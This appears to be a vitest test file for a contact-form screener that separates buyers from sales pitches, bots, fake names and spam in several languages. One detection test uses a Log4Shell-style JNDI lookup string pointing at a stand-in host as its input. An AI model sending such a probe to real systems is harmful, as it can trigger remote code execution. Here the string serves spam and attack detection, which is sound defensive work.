import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Inquiry, ScreeningFacts } from './inquiry.ts'
import { phrases } from './languages.ts'
import { defaultRules } from './rules.ts'
import { screen } from './screen.ts'

const kim: Inquiry = {
  formKind: 'contact',
  name: 'Kim Park',
  email: 'kim@northwind.example',
  company: 'Northwind',
  message: 'Could you call me about your prices? We are 40 people.',
}
const screened = (over: Partial<Inquiry> = {}, facts: ScreeningFacts = {}) =>
  screen({ ...kim, ...over }, { phrases, rules: defaultRules, facts })
const codes = (over: Partial<Inquiry> = {}, facts: ScreeningFacts = {}) =>
  screened(over, facts).reasons.map(({ code }) => code)
const says = (message: string) => screened({ message })

describe('a buyer passes', () => {
  test.each([
    'price?',
    'we are an SEO agency and need a CRM for 12 people, what does it cost?',
    'Licensed online casino here. Could we get a demo of the player limits?',
    'I came across your website and have about 5,000 € for it. Let’s talk.',
    'was kostet das und wann liefern Sie',
    'おいくらですか',
    'कीमत क्या है',
    'We give small firms loans of up to 150k within 24 hours. What response times do your clients see, and is there an SLA?',
    'Wir produzieren Imagefilme und ertrinken in Anfragen. Lohnt sich euer Tool schon für drei Leute?',
    '',
  ])('%s', (message) => expect(says(message)).toMatchObject({ verdict: 'pass', class: 'buyer' }))
  test('whatever a look-up failed to find', () =>
    expect(screened({}, { address: {} })).toMatchObject({ verdict: 'pass' }))
  test.each(['undeliverable', 'disposable'])('at an address with a slip, though it is %s', (as) =>
    expect(screened({ message: '' }, { address: { [as]: true, meant: 'gmail.com' } }).verdict).toBe('pass'),
  )
  test('from a small firm that writes as itself', () => {
    const reed = { email: 'reed@reed.com', company: 'Reed', message: 'demo' }
    expect(['Sam Reed', 'Reed'].map((name) => screened({ ...reed, name }).verdict)).toEqual(['pass', 'hold'])
  })
})

describe('a pitch is held', () => {
  test.each([
    'I noticed your website has few visitors. We help firms like yours rank on the first page of Google, guaranteed.',
    'Wir helfen Unternehmen wie Ihrem, neue Kunden zu gewinnen. Hätten Sie nächste Woche 15 Minuten?',
    'Nous proposons la création de sites modernes à partir de 490 €. Souhaitez-vous un devis gratuit ?',
    'Our engineers join your team within days. May I send you three CVs?',
    'Vyřídíme pro vaši firmu dotaci. Platíte až po schválení, stačí odpovědět.',
    '弊社ではSEO対策により集客を3倍にした実績がございます。無料診断をご提案させていただけないでしょうか。',
  ])('%s', (message) => expect(says(message)).toMatchObject({ verdict: 'hold', class: 'pitch' }))
  test('and the reason quotes what it goes by', () => {
    const [first] = says('We offer link building, and guarantee results within 30 days. Interested?').reasons
    expect(first?.text).toMatch(/speaks of its own services \(“we offer”\)/)
  })
})

describe('who is to do something for whom decides', () => {
  test.each([
    [
      'what a question is about is no selling',
      'We generate leads for builders. What would 20,000 leads a month cost with your API?',
    ],
    [
      'a wish of one’s own outweighs how they sell',
      'We give working-capital loans within 24 hours, guaranteed. I want a pilot for 10 agents.',
    ],
    [
      'figures of one’s own promise nobody anything',
      'We do corporate retreats. Enquiries are up 40% since May, and conversion is down.',
    ],
    [
      'who offers others something, and asks us',
      'Wir vermitteln Kredite, 120 am Tag. Können Sie nachweisen, wann angerufen wurde?',
    ],
    [
      'who makes something, and asks us',
      'We make t-shirts, love what you do. Would the small plan cover two of us?',
    ],
    [
      'one phrase has nothing beside it',
      'Award-winning gin, and a stock system that nobody can bear any more.',
    ],
    [
      'what somebody quotes, others said',
      'This came through our form: “We can get your business to page one, guaranteed, reply YES today”. I want that to end.',
    ],
    [
      'one word that means many things is one mark',
      '¿Hay prueba gratis? Somos tres y hay que decidir esta semana.',
    ],
    ['a seller’s question turned round', 'Second time I fill this in. Do you want our money or not?'],
    [
      'someone who wrote before and waits',
      'Did you get a chance to look at the list I sent on Monday? Our board meets on Friday.',
    ],
    [
      'who says that they will stop writing',
      'If you do not want small firms, not interested, just say so and I will stop.',
    ],
  ])('so it passes: %s', (_, message) => expect(says(message).verdict).toBe('pass'))
  test.each([
    [
      'who is looking isn’t said',
      'Looking for a new office? We have flexible desks near you, two months free.',
    ],
    [
      'it asks whom to talk to on our side',
      'We help firms recover what they overpay. Who looks after this at your company?',
    ],
    [
      'it says how to be left alone',
      'Two of your peers doubled their replies with us. Not your thing? Reply STOP.',
    ],
    ['it chases what nobody asked for', 'Just bumping this. We help teams like yours win more clients.'],
    [
      'it finds fault with what is ours',
      'Your website is slow and your competitors rank above you. Shall I send the list?',
    ],
    ['wer nach dem Zuständigen fragt', 'Wir bringen Ihnen Termine. Wer kümmert sich bei Ihnen darum?'],
    ['на нашей стороне', 'Мы поможем вам увеличить продажи. Кто отвечает у вас за рекламу?'],
    [
      'a question begins as only a seller begins one',
      'Three engineers in Lima are free from May. Want to meet them?',
    ],
    ['one word asks whether we are taken with it', 'Our drivers deliver to your town by noon. Interested?'],
    [
      'what is offered is named',
      'Wir verzichten auf jede Gebühr, kostenlos und unverbindlich. Angebot und Preise gerne auf Anfrage.',
    ],
    ['with holes in it', 'Hi {{first_name}}, I was thinking about {{company}} this morning.'],
    ['in their own calendar', 'Our engineers join your team within days: https://calendly.com/nora/15min'],
  ])('so it is held: %s', (_, message) => expect(says(message).verdict).toBe('hold'))
  test('an offer from an address that anybody may have is one mark more', () => {
    const message =
      'We provide bookkeeping. Could you tell me who decides? We are certified for your software.'
    expect(codes({ message }, { address: { personal: true } })).toContain('sells')
    expect(codes({ message })).not.toContain('sells')
  })
})

describe('each signal is noticed, and no other instead', () => {
  test.each<[string, Partial<Inquiry>, ScreeningFacts]>([
    ['honeypot', {}, { honeypot: true }],
    ['filled_too_fast', {}, { filledInMs: 400 }],
    ['no_proof_of_work', {}, { proof: 'absent' }],
    ['replayed_proof_of_work', {}, { proof: 'replayed' }],
    ['disposable_address', {}, { address: { disposable: true } }],
    ['undeliverable_address', {}, { address: { undeliverable: true } }],
    ['mistyped_address', {}, { address: { meant: 'gmail.com' } }],
    ['same_text', {}, { sameText: 4 }],
    ['network_burst', {}, { sameNetwork: 30 }],
    ['trusted', {}, { trusted: 'northwind.example' }],
    ['made_up_address', { email: 'asdf@asdf.com' }, {}],
    ['nobodys_name', { name: 'Mickey Mouse' }, {}],
    ['nobodys_name', { name: 'Jane Doe', email: 'kitten99@quiet.example' }, {}],
    ['nobodys_firm', { name: 'Bruce Wayne', company: 'Wayne Enterprises' }, {}],
    ['trial', { message: 'Dies ist eine Testanfrage, bitte ignorieren.' }, {}],
    ['other_sender', { message: 'Thanks, Kim. kim@otherfirm.example' }, {}],
    ['other_sender', { company: 'Contoso Freight', message: 'What does it cost?' }, {}],
    ['contradiction', { name: 'RobertPah', company: 'google' }, {}],
    ['gibberish', { message: 'dfgdfg xkqzvwt' }, {}],
    ['gibberish', { message: 'qpwo eiru tyal skdj' }, {}],
    ['template_hole', { message: 'Dear [First Name], about your plans.' }, {}],
    ['own_calendar', { message: 'My time: https://cal.com/kim/30min' }, {}],
    ['says_how_to_leave', { message: 'To opt out of these mails, answer.' }, {}],
    ['wants', { message: 'I want a trial for four people' }, {}],
    [
      'only_offers',
      { message: 'Our engineers join your team within days, and leave it as soon as you like.' },
      {},
    ],
    [
      'only_trades',
      { message: 'Link building for your website, with many domains to choose from, every week.' },
      {},
    ],
    [
      'sells_loudly',
      {
        message:
          'We build websites for your trade and do SEO, from $99. Save your costs, guaranteed. Shall I send you a proposal this week? What if your business grew?',
      },
      {},
    ],
    ['gibberish_name', { name: 'GnNAvXdqKbOTr' }, {}],
    ['probe', { message: '${jndi:ldap://evil.example/a}' }, {}],
    ['link_markup', { message: '[url=https://a.example]a[/url]' }, {}],
    ['hidden_link', { message: 'look what I found here for you all http://bit.ly/2x' }, {}],
    ['cheap_link', { message: 'look what I found here for you all http://a.top/2x' }, {}],
    ['bare_link', { message: 'http://a.example/x' }, {}],
    ['link_in_name', { name: 'http://a.example' }, {}],
    ['lure', { message: 'You have won a prize' }, {}],
    ['baited', { message: 'Your parcel waits. Click here.' }, {}],
    [
      'baited_much',
      { message: 'I am a widow, and donate an inheritance for charity. Reply for details.' },
      {},
    ],
    ['sells_a_little', { message: 'Lunch at the door every day at noon, 8,90 € a head.' }, {}],
    ['cheap_sender', { email: 'kim@prizes.lol' }, {}],
    ['links_home', { email: 'kim@prizes.lol', message: 'See prizes.lol/today' }, {}],
    [
      'invites_much',
      { message: 'Are you happy with your current cleaners? Let me know who handles it on your side.' },
      {},
    ],
    ['invites_ours', { message: 'Calling about your electricity: put me through to whoever signs.' }, {}],
    ['asks_nothing', { message: 'All of this stands on many pages that are read by many people.' }, {}],
  ])('%s', (code, inquiry, facts) => {
    expect(codes(inquiry, facts)).toContain(code)
    expect(codes()).not.toContain(code)
  })
})

test('which firm somebody is of, and where they write from, holds nobody by itself', () => {
  const elsewhere = {
    company: 'Contoso Freight',
    message: 'Forty of us, from May. Kim, kim@otherfirm.example',
  }
  expect(screened(elsewhere).verdict).toBe('pass')
  expect(codes({ ...elsewhere, email: 'kim@mail.otherfirm.example' })).not.toContain('other_sender')
  expect(codes({ company: 'Müller & Söhne', email: 'k@mueller-soehne.example' })).not.toContain(
    'other_sender',
  )
  expect(codes({ company: 'Contoso Freight' }, { address: { personal: true } })).not.toContain('other_sender')
})

test('a name out of a tale is nobody’s beside its firm, whatever it asks for; somebody may be called so', () => {
  const order = { name: 'Bruce Wayne', message: 'I need a quote for 40 seats, please.' }
  expect(screened({ ...order, company: 'Wayne Enterprises' })).toMatchObject({
    verdict: 'hold',
    class: 'fake',
  })
  expect(screened(order).verdict).toBe('pass')
})

describe('names and words that are only rare to us are no gibberish', () => {
  test.each([
    'Nguyễn Ngọc Bích',
    'Krzysztof Szczęsny',
    'Ng',
    'Bo',
    '王',
    'Þórður Hjálmarsson',
    'Xhevdet Qosja',
  ])('%s', (name) => expect(screened({ name, message: 'ok' }).verdict).toBe('pass'))
  test.each([
    'GDPR HIPAA ISO27001',
    'Rindfleischetikettierung',
    'strč prst skrz krk',
    'hmm',
    'LGTM thx',
    'type your query',
  ])('%s', (message) => expect(codes({ message })).not.toContain('gibberish'))
})

describe('what somebody wants is told by their words, whatever form they came through', () => {
  test.each([
    ['demo', 'I would like to apply for the developer position. My CV is attached.', 'job seeker'],
    ['pricing', 'I am writing my thesis about response times. May I interview one of you?', 'student'],
    ['job', 'We have 40 users. What does it cost, and may we try it?', 'buyer'],
  ])('%s: %s', (formKind, message, road) =>
    expect(screened({ formKind, message })).toMatchObject({ verdict: 'pass', class: road }),
  )
  test('a pitch through a form for applications is held', () =>
    expect(
      screened({
        formKind: 'job',
        message:
          'We offer SEO services and bring your site to the first page of Google. May I send you a proposal?',
      }),
    ).toMatchObject({ verdict: 'hold', class: 'pitch' }))
})

test('letters that nobody could say are no words, and who is called a test is nobody', () => {
  expect(screened({ message: 'Bxqtz vrplk mnwrt ghjklz' })).toMatchObject({
    verdict: 'hold',
    class: 'gibberish',
  })
  expect(screened({ name: 'Testing Tester', message: 'Hello there' })).toMatchObject({ class: 'fake' })
})

test('whom we learned to trust passes, whatever else is noticed', () => {
  expect(screened({ message: 'dfgdfg' }, { trusted: 'kim', honeypot: true }).verdict).toBe('pass')
})

test('any text is screened, the same way each time, and a held one says why', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme', maxLength: 400 }), fc.string(), (message, name) => {
      const once = screened({ message, name })
      expect(screened({ message, name })).toEqual(once)
      const why = once.reasons[0]?.text ?? ''
      expect(once.verdict === 'pass' || why.length > 5).toBe(true)
    }),
    { numRuns: 200 },
  )
})
